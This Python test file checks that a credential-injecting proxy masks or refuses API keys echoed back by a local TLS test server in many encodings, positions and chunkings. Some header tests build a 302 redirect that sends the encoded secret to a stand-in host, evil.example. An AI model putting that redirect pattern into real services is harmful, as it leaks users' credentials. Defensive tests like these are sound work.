"""What a service sends back of the credential that it was given never reaches the program (PX-20, PX-23): a real TLS server
that reflects it in many spellings, places and cuts, read by Python and curl. And what the program's own requests lose:
its other credentials, its placeholders (PX-13)."""
import gzip, html, re, socket, urllib.parse, zlib
from harness import *

CONTEXT = b"\x9d\x03\xf1\x7a\x22\xb8\x4c\xe5\x10\x67\xd9\x31" * 6


def base64_at(before, alphabet=base64.b64encode, lines=None):
    """The bytes of base64 that say the secret, and what surrounds them."""
    def write(secret):
        text = alphabet(CONTEXT[:before] + secret + CONTEXT[:5])
        first, last = (before * 8 + 5) // 6, (before + len(secret)) * 8 // 6
        if lines:
            cut = lambda piece, at: b"".join((b"\n" if (at + i) % lines == 0 and at + i else b"") + piece[i:i + 1] for i in range(len(piece)))
            return cut(text[:first], 0), cut(text[first:last], first), cut(text[last:], last)
        return text[:first], text[first:last], text[last:]
    return write


def each(form):
    return lambda secret: (b"", b"".join((form(i, c) if form.__code__.co_argcount == 2 else form(c)).encode() for i, c in enumerate(secret)), b"")


def whole(form):
    return lambda secret: (b"", form(secret), b"")


SPELLINGS = {
    "raw": whole(lambda s: s), "base64": base64_at(0), "base64+1": base64_at(1), "base64+2": base64_at(2), "base64 later": base64_at(31),
    "base64url": base64_at(0, base64.urlsafe_b64encode), "base64url+1": base64_at(1, base64.urlsafe_b64encode), "base64url+2": base64_at(2, base64.urlsafe_b64encode),
    "base64 in lines": base64_at(45, lines=60), "mime": base64_at(50, lines=76),
    "hex": whole(lambda s: s.hex().encode()), "HEX": whole(lambda s: s.hex().upper().encode()),
    "percent": each(lambda c: f"%{c:02x}"), "PERCENT": each(lambda c: f"%{c:02X}"), "quote": whole(lambda s: urllib.parse.quote(s, safe="").encode()),
    "percent twice": each(lambda c: f"%25{c:02X}"), "mixed percent": each(lambda i, c: f"%{c:02X}" if i % 3 == 0 else chr(c)),
    "json": whole(lambda s: json.dumps(s.decode())[1:-1].encode()), "json unicode": each(lambda c: f"\\u{c:04x}"), "JSON UNICODE": each(lambda c: f"\\u{c:04X}"),
    "php json": whole(lambda s: json.dumps(s.decode())[1:-1].replace("/", "\\/").encode()), "python": each(lambda c: f"\\x{c:02x}"), "octal": each(lambda c: f"\\{c:03o}"),
    "html": whole(lambda s: html.escape(s.decode()).encode()), "html numbers": each(lambda c: f"&#{c};"), "html hex": each(lambda c: f"&#x{c:X};"),
    "utf-16le": whole(lambda s: s.decode().encode("utf-16-le")[:-1]), "utf-16be": whole(lambda s: s.decode().encode("utf-16-be")[1:]),
    "percent of base64": lambda s: tuple(urllib.parse.quote(part, safe="").encode() for part in base64_at(1)(s)),
    "json of base64": lambda s: tuple(part.replace(b"/", b"\\/") for part in base64_at(2)(s)),
    "html in json": each(lambda c: f"\\u0026#{c};"),
}
PLACES = {
    "text": (b"you said ", b" and that is all\n"), "json": b'{"headers": {"Authorization": "Bearer |"}, "url": "https:\\/\\/x\\/y"}'.split(b"|"),
    "html": b"<p>Authorization: Bearer |&nbsp;</p>".split(b"|"), "alone": (b"", b""), "url": b"https://x.example/?token=|&n=1".split(b"|"),
    "far in": (b"0123456789 abcdef\n" * 910, b"\n" + b"tail\n" * 300),
}
CUTS = ("length", "length in two", "chunks of 1", "chunks of 7", "a chunk in the middle", "to the end")


class Reflector:
    """Sends back what it was given, as /SPELLING/PLACE/CUT says."""

    def __init__(self, world):
        world.certificates()
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(world.cert, world.key)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.requests, self.lock = [], threading.Lock()
        self.go_on = threading.Event()
        self.special = {}
        threading.Thread(target=self.accept, daemon=True).start()
        world.closing.append(self.listener.close)

    def accept(self):
        with contextlib.suppress(OSError):
            while True:
                threading.Thread(target=self.serve, args=(self.listener.accept()[0],), daemon=True).start()

    def serve(self, raw):
        with contextlib.suppress(OSError, ConnectionError):
            with self.context.wrap_socket(raw, server_side=True) as tls:
                file = tls.makefile("rb")
                while line := file.readline():
                    method, target, _ = line.decode().split(" ", 2)
                    headers = []
                    while (field := file.readline().decode("latin-1").rstrip("\r\n")):
                        headers.append(tuple(field.split(": ", 1)))
                    fields = {name.lower(): value for name, value in headers}
                    file.read(int(fields.get("content-length", 0)))
                    with self.lock:
                        self.requests.append({"method": method, "target": target, "headers": headers})
                    tls.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                    secret = fields.get("authorization", " ").split(" ", 1)[1].encode()
                    if not self.answer(tls, target, secret):
                        tls.unwrap()  # an end without it would look cut off
                        return

    def answer(self, tls, target, secret):
        parts = [urllib.parse.unquote(part) for part in target.split("?")[0].strip("/").split("/")]
        if parts[0] in self.special:
            return self.special[parts[0]](tls, secret, parts)
        before, middle, after = SPELLINGS[parts[0]](secret)
        opening, closing = PLACES[parts[1]]
        body = opening + before + middle + after + closing
        centre = len(opening + before) + len(middle) // 2
        head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
        if parts[2].startswith("length"):
            tls.sendall(head + b"Content-Length: %d\r\n\r\n" % len(body))
            for piece in ([body] if parts[2] == "length" else [body[:centre], body[centre:]]):
                tls.sendall(piece)
                time.sleep(0.005 if parts[2] == "length in two" else 0)
            return True
        if parts[2] == "to the end":
            tls.sendall(head + b"Connection: close\r\n\r\n" + body)
            return False
        if parts[2] == "a chunk in the middle":
            pieces = [body[:centre], body[centre:]]
        else:
            size = int(parts[2].rsplit(" ", 1)[1])
            start = max(0, len(opening) - 5)  # what is far before may come at once
            pieces = [body[:start]] + [body[i:i + size] for i in range(start, start + len(before + middle + after) + 10, size)]
            pieces.append(body[len(b"".join(pieces)):])
        tls.sendall(head + b"Transfer-Encoding: chunked\r\n\r\n")
        for i, piece in enumerate(pieces):
            if piece:
                tls.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
                if parts[2] == "a chunk in the middle" and i == 0:
                    time.sleep(0.01)
        tls.sendall(b"0\r\n\r\n")
        return True


def connect(world, server, name="acme", **members):
    # With all that escapes are for; not by chance in any text.
    secret = world.canaries.new(f"{name} key")[:20] + "/+=.~&" + world.canaries.new(f"{name} key, end")[:14]
    world.canaries.add(f"{name} whole key", secret)
    world.run("register", world.definition(name, **{"auth_type": "api_key", "flow": "api_key", "api_url": f"https://127.0.0.1:{server.port}/",
                                                    "api_key": {"header_name": "Authorization", "header_prefix": "Bearer", "env_var": f"{name.upper()}_KEY"}, **members}), "--yes")
    world.run("login", name, "--input", "stdin", stdin=secret)
    return secret


FETCH = r'''
import http.client, json, os, ssl, sys, urllib.parse, base64
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
def connect(port):
    connection = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=context, timeout=60)
    token = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    connection.set_tunnel("127.0.0.1", port, headers={"Proxy-Authorization": "Basic " + token})
    return connection
'''


def fetch_all(world, server, paths, *options):
    """Each path by Python under `run`: (status, headers, body). What came is kept, so that the scan looks at it too."""
    script = FETCH + r'''
answers, connection = [], connect(int(sys.argv[1]))
for path in json.load(sys.stdin):
    connection.request("GET", urllib.parse.quote(path))
    answer = connection.getresponse()
    answers.append((answer.status, answer.reason, answer.getheaders(), base64.b64encode(answer.read()).decode()))
    if answer.will_close:
        connection = connect(int(sys.argv[1]))
json.dump(answers, sys.stdout)
'''
    world.count += 1
    asked = world.directory / f"paths-{world.count}.json"
    asked.write_text(json.dumps(paths))
    with open(asked) as file:
        process = subprocess.run([world.program, "run", *options, "--", "python3", "-c", script, str(server.port)], stdin=file, capture_output=True,
                                 env=world.environment(), timeout=500)
    check(process.returncode == 0, f"exit code {process.returncode}: {process.stderr.decode()[-2000:]}")
    answers = [(status, reason, headers, base64.b64decode(body)) for status, reason, headers, body in json.loads(process.stdout)]
    for i, (status, reason, headers, body) in enumerate(answers):
        (world.artefacts / f"answer-{world.count}-{i}").write_bytes(json.dumps([reason, headers]).encode() + b"\n" + body)
    return answers


def complaint(sent, began, secret, received):
    """What is wrong with a body in which `secret` stood at `began`."""
    if len(sent) != len(received):
        return f"{len(received)} bytes instead of {len(sent)}"
    ended = began + len(secret)
    edge = 3  # of a character of base64 that holds bits of both sides, which may be an escape: %2B
    if received[:max(0, began - edge)] != sent[:max(0, began - edge)] or received[ended + edge:] != sent[ended + edge:]:
        return "something else changed"
    if received[began:ended].strip(b"*\n"):
        return f"came through: {received[max(0, began - 20):ended + 20]!r}"
    return ""


def every_spelling_place_and_cut(world):
    """PX-20, G11: by Python, in one session, over kept-alive connections."""
    server = Reflector(world)
    secret = connect(world, server).encode()
    cases = [(spelling, place, cut) for i, spelling in enumerate(SPELLINGS) for j, place in enumerate(PLACES) for k, cut in enumerate(CUTS)
             if (i + j + k) % 3 == 0 or place == "json" or spelling == "raw"]
    answers = fetch_all(world, server, ["/" + "/".join(case) for case in cases])
    failures = []
    for case, (status, _, headers, body) in zip(cases, answers):
        before, middle, after = SPELLINGS[case[0]](secret)
        opening, closing = PLACES[case[1]]
        wrong = complaint(opening + before + middle + after + closing, len(opening + before), middle, body) if status == 200 else f"status {status}"
        if wrong:
            failures.append(f"{case}: {wrong}")
    check(not failures, f"{len(failures)} of {len(cases)} failed:\n" + "\n".join(failures[:20]))
    check(all(("Accept-Encoding", "identity") in r["headers"] for r in server.requests), "bodies are asked for uncoded")
    log = (world.artefacts / "trace.log").read_text()
    events = [json.loads(line) for line in log.splitlines() if '"proxy.scrubbed"' in line]
    equal(len(events), len(cases), "an event for each answer")
    check(all(e["provider"] == "acme" and e["times"] == 1 for e in events), f"{events[0]}")
    lines = [line for line in map(json.loads, world.run("log", "--json", "--limit", "0").stdout.splitlines()) if line["kind"] == "request"]
    equal([line["scrubbed"] for line in lines], [1] * len(cases), "the audit log says so")
    contains(world.run("log", "--limit", "1").stdout, "the credential taken out of the answer 1 time", "in words")
    print(f"{len(SPELLINGS)} spellings, {len(PLACES)} places, {len(CUTS)} cuts: {len(cases)} answers looked through")


def curl_sees_none_either(world):
    server = Reflector(world)
    secret = connect(world, server).encode()
    for spelling in SPELLINGS:
        url = f"https://127.0.0.1:{server.port}/" + urllib.parse.quote(f"{spelling}/json/chunks of 7")
        received = world.run("run", "--", "curl", "-sS", "--compressed", url).stdout
        before, middle, after = SPELLINGS[spelling](secret)
        opening, closing = PLACES["json"]
        wrong = complaint(opening + before + middle + after + closing, len(opening + before), middle, received.encode("utf-8", "surrogateescape"))
        if not any(byte > 127 for byte in before + after):
            equal(wrong, "", spelling)


def the_fields_of_an_answer(world):
    """PX-20, PX-22, PX-23: Location, a challenge, a link, a name, the reason phrase; cookies do not come through at all."""
    server = Reflector(world)

    def fields(tls, secret, parts):
        encoded = urllib.parse.quote(secret, safe="").encode()
        tls.sendall(b"HTTP/1.1 302 Found " + secret + b"\r\nLocation: https://evil.example/?t=" + encoded + b"\r\nWWW-Authenticate: Bearer realm=\"" + secret +
                    b"\"\r\nX-Debug: " + base64.b64encode(b"Authorization: Bearer " + secret) + b"\r\nX-" + secret.hex().encode() + b": 1\r\nLink: <https://x/?" + encoded +
                    b">; rel=next\r\nSet-Cookie: sid=" + secret + b"; Path=/\r\nSet-Cookie: plain=1\r\nX-Fine: yes\r\nContent-Length: 2\r\n\r\nok")
        return True
    server.special["fields"] = fields
    secret = connect(world, server)
    (status, reason, headers, body), = fetch_all(world, server, ["/fields"])
    equal((status, body), (302, b"ok"), "the answer")
    equal(reason, "Found " + "*" * len(secret), "reason phrase")
    values = dict(headers)
    equal(values["Location"], "https://evil.example/?t=" + "*" * len(urllib.parse.quote(secret, safe="")), "Location")
    equal(values["WWW-Authenticate"], 'Bearer realm="' + "*" * len(secret) + '"', "challenge")
    contains(values["Link"], ">; rel=next", "Link")
    equal(values["X-Fine"], "yes", "another field")
    equal(values["X-" + "*" * 2 * len(secret)], "1", "a field's name")
    check(values["X-Debug"].startswith(base64.b64encode(b"Authorization: Bearer ").decode()[:26]), f"what stands before it stays: {values['X-Debug']}")
    check("Set-Cookie" not in values, f"cookies of the service: {headers}")


def coded_bodies(world):
    """PX-20: what comes coded although it was asked for uncoded is decoded and looked through, or refused."""
    server = Reflector(world)
    kinds = {"gzip": lambda b: gzip.compress(b), "x-gzip": lambda b: gzip.compress(b[:40]) + gzip.compress(b[40:]), "deflate": lambda b: zlib.compress(b),
             "DEFLATE": lambda b: zlib.compress(b)[2:-4]}

    def coded(tls, secret, parts):
        body = (b'{"padding": "' + b"x" * 70000 + b'", "you said": "' + secret + b'", "and": "' + base64.b64encode(b"Bearer " + secret) + b'"}') * 3
        coding, framing = parts[1], parts[2]
        packed = kinds.get(coding, lambda b: b)(body)
        if parts[3:] == ["broken"]:
            packed = packed[:len(packed) // 2] + b"broken" + packed[len(packed) // 2:]
        status = b"206 Partial Content\r\nContent-Range: bytes 0-9/10" if parts[3:] == ["part"] else b"200 OK"
        head = b"HTTP/1.1 " + status + b"\r\nETag: \"1\"\r\nContent-Encoding: " + coding.encode()
        if framing == "length":
            tls.sendall(head + b"\r\nContent-Length: %d\r\n\r\n" % len(packed) + packed)
        else:
            tls.sendall(head + b"\r\nTransfer-Encoding: chunked\r\n\r\n")
            for i in range(0, len(packed), 61):
                tls.sendall(b"%x\r\n%s\r\n" % (len(packed[i:i + 61]), packed[i:i + 61]))
            tls.sendall(b"0\r\n\r\n")
        return True
    server.special["coded"] = coded
    secret = connect(world, server).encode()
    paths = [f"/coded/{kind}/{framing}" for kind in kinds for framing in ("length", "chunks")]
    for path, (status, _, headers, body) in zip(paths, fetch_all(world, server, paths)):
        equal(status, 200, path)
        names = {name.lower(): value for name, value in headers}
        check("content-encoding" not in names and "content-length" not in names, f"{path}: {headers}")
        equal(names["etag"], 'W/"1"', f"{path}: tag")
        equal(body.count(b'"you said": "' + b"*" * len(secret) + b'"'), 3, path)
        equal(len(body), 3 * len(b'{"padding": "' + b"x" * 70000 + b'", "you said": "' + secret + b'", "and": "' + base64.b64encode(b"Bearer " + secret) + b'"}'), f"{path}: length")
    refused = ["/coded/br/length", "/coded/zstd/chunks", "/coded/gzip, gzip/length", "/coded/gzip/length/part", "/coded/compress/length"]
    for path, (status, _, headers, body) in zip(refused, fetch_all(world, server, refused)):
        equal((status, dict(headers).get("Claviger-Reason")), (502, "coded_answer"), path)
        contains(body.decode(), "coded_answer", path)
    out = world.run("run", "--", "curl", "-sS", f"https://127.0.0.1:{server.port}/coded/gzip/length/broken", code=None)
    check(out.returncode != 0, "a broken coded body looks broken")


def a_stream_goes_on_at_once(world):
    """PX-20: an event is not held back for what may follow; one that is cut inside of the secret shows none of it."""
    server = Reflector(world)

    def events(tls, secret, parts):
        tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for i in range(5):
            for piece in (b'data: {"n": %d, "text": "' % i + secret[:9], secret[9:] + b'"}\n\n'):
                tls.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
            if not server.go_on.wait(60):
                return False
            server.go_on.clear()
        tls.sendall(b"0\r\n\r\n")
        return True

    def next_one(tls, secret, parts):
        server.go_on.set()
        tls.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")
        return True
    server.special.update({"events": events, "next": next_one})
    secret = connect(world, server)
    script = FETCH + r'''
stream, other = connect(int(sys.argv[1])), connect(int(sys.argv[1]))
stream.request("GET", "/events")
answer = stream.getresponse()
for i in range(5):
    print(answer.readline().decode(), end="", flush=True)
    answer.readline()
    other.request("GET", "/next")
    other.getresponse().read()
'''
    out = world.run("run", "--", "python3", "-c", script, server.port).stdout
    equal(out, "".join(f'data: {{"n": {i}, "text": "{"*" * len(secret)}"}}\n' for i in range(5)), "five events, each seen before the next was sent")


def answers_that_show_it_can_be_stopped(world):
    """PX-20, `run.reflection abort`: refused where nothing of the answer has gone, else cut off where the secret begins."""
    server = Reflector(world)
    chunk = lambda piece: b"%x\r\n%s\r\n" % (len(piece), piece)
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
    chunked = head + b"Transfer-Encoding: chunked\r\n\r\n"

    def answer(pieces):
        def send(tls, secret, parts):
            for i, piece in enumerate(pieces(secret)):
                if i > 0:
                    time.sleep(0.5)  # so that the one before has gone
                tls.sendall(piece)
            return True
        return send
    gzipped = lambda secret: gzip.compress(b"you said " + secret + b"\n")
    server.special = {
        "fine": answer(lambda secret: [head + b"Content-Length: 4\r\n\r\nfine"]),
        "field": answer(lambda secret: [b"HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t=" + urllib.parse.quote(secret, safe="").encode() + b"\r\nContent-Length: 4\r\n\r\ngone"]),
        "hint": answer(lambda secret: [b"HTTP/1.1 103 Early Hints\r\nLink: </" + secret.hex().encode() + b">\r\n\r\n", head + b"Content-Length: 4\r\n\r\nfine"]),
        "body": answer(lambda secret: [head + b"Content-Length: %d\r\n\r\nyou said %s\n" % (10 + len(secret), secret)]),
        "coded": answer(lambda secret: [head + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(gzipped(secret)) + gzipped(secret)]),
        "late": answer(lambda secret: [chunked + chunk(b"a line\n"), chunk(b"you said " + base64.b64encode(secret) + b" and so on\n") + b"0\r\n\r\n"]),
        "trailer": answer(lambda secret: [chunked + chunk(b"a line\n"), b"0\r\nX-Said: " + secret + b"\r\n\r\n"]),
    }
    connect(world, server)
    refused = world.run("config", "set", "run.reflection", "maybe", code=None)
    check(refused.returncode != 0 and "abort" in refused.stderr, refused.stderr)
    world.run("config", "set", "run.reflection", "abort")
    script = "for path in fine field hint body coded late trailer fine; do curl -sSi -H 'TE: trailers' \"$0/$path\"; echo \"#exit $?\"; done"
    shown = world.run("run", "--", "sh", "-c", script, f"https://127.0.0.1:{server.port}").stdout
    answers = [text.rpartition("200 Connection Established")[2] for text in re.split(r"#exit \d+\n", shown)[:-1]]
    codes = [int(code) for code in re.findall(r"#exit (\d+)\n", shown)]
    for i in (0, 7):
        check(answers[i].endswith("fine") and " 200 OK" in answers[i] and codes[i] == 0, f"what shows nothing passes: {answers[i]}")
    for i, what in ((1, "a field"), (2, "an interim answer"), (3, "a body"), (4, "a coded body")):
        contains(answers[i], "HTTP/1.1 502 Bad Gateway", what)
        contains(answers[i], "Claviger-Reason: reflected_credential", what)
        check("you said" not in answers[i] and "evil.example" not in answers[i] and codes[i] == 0, f"nothing else of {what}: {answers[i]}")
    for i, what in ((5, "a body"), (6, "trailers")):
        contains(answers[i], " 200 OK", f"{what}, later")
        contains(answers[i], "a line\n", f"{what}: what came before has gone")
        check(codes[i] != 0, f"{what}: the end looks like none")
    check("you said" not in answers[5].replace("you said ", "", 1) and "and so on" not in answers[5], f"nothing behind it: {answers[5]}")
    check("***" not in "".join(answers[3:]), f"nothing is overwritten, it is left out: {shown}")
    lines = [line for line in map(json.loads, world.run("log", "--json").stdout.splitlines()) if line["kind"] == "request"]
    equal([(line["status"], line["reason"], line["scrubbed"] > 0) for line in lines],
          [(200, None, False), *[(502, "reflected_credential", True)] * 4, *[(200, "reflected_credential", True)] * 2, (200, None, False)], "the log")
    world.run("config", "unset", "run.reflection")
    contains(world.run("run", "--", "curl", "-sS", f"https://127.0.0.1:{server.port}/body").stdout, "you said ***", "without it they are overwritten")


def nothing_else_changes(world):
    """Bodies of any bytes come as they are, also where a read ends within what might be a secret."""
    server = Reflector(world)
    big = os.urandom(3 << 20) + b"".join(os.urandom(3).hex().encode() + b"%2F&amp;\\u0041\r\n" for _ in range(50000)) + base64.encodebytes(os.urandom(1 << 20))

    def bytes_of(tls, secret, parts):
        tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(big) + big)
        return True
    server.special["big"] = bytes_of
    connect(world, server)
    (status, _, _, body), = fetch_all(world, server, ["/big"])
    check(status == 200 and body == big, "the same bytes")


def what_the_program_sends_along(world):
    """PX-13, PX-23: its own credentials and placeholders stay here; `pass` lets through what the service needs."""
    server = Reflector(world)

    def cookie(tls, secret, parts):
        tls.sendall(b"HTTP/1.1 200 OK\r\nSet-Cookie: session=1\r\nSet-Cookie: sid=minted\r\nContent-Length: 0\r\n\r\n")
        return True
    server.special["cookie"] = cookie
    secret = connect(world, server)
    url = f"https://127.0.0.1:{server.port}/cookie"
    ask = ('curl -sS -i -H "Authorization: Bearer $ACME_KEY" -H "X-Odd: $ACME_KEY" -H "X-Api-Key: mine" -H "X_API_KEY: mine" -H "Cookie: session=mine" '
           '-H "X-Csrf-Token: t" "$0?q=1&key=$ACME_KEY&k2=claviger%2dmanaged" -u me:mine')
    out = world.run("run", "--", "sh", "-c", ask.replace(" -u me:mine", ""), url).stdout
    check("set-cookie" not in out.lower(), f"cookies: {out}")
    world.run("run", "--", "sh", "-c", ask, url)
    for request in server.requests:
        headers = {name.lower(): value for name, value in request["headers"]}
        equal(request["target"], "/cookie?q=1", "target")
        equal(headers["authorization"], "Bearer " + secret, "one credential, ours")
        equal(sorted(headers), ["accept", "accept-encoding", "authorization", "host", "user-agent", "via", "x-csrf-token"], "fields")
    file = world.home / "providers/acme.json"
    definition = json.loads(file.read_text())
    definition["inject"] = {"pass": ["Cookie", "X-Api-Key"]}
    world.run("register", world.definition("acme", **{k: v for k, v in definition.items() if k not in ("schema_version", "name", "display_name")}), "--yes", "--force")
    world.run("login", "acme", "--input", "stdin", "--force", stdin=secret)
    out = world.run("run", "--", "sh", "-c", ask, url).stdout
    contains(out, "Set-Cookie: session=1", "with pass")
    headers = {name.lower(): value for name, value in server.requests[-1]["headers"]}
    equal((headers.get("cookie"), headers.get("x-api-key"), headers["authorization"]), ("session=mine", "mine", "Bearer " + secret), "with pass")


if __name__ == "__main__":
    main(every_spelling_place_and_cut, curl_sees_none_either, the_fields_of_an_answer, coded_bodies, a_stream_goes_on_at_once, answers_that_show_it_can_be_stopped, nothing_else_changes,
         what_the_program_sends_along)
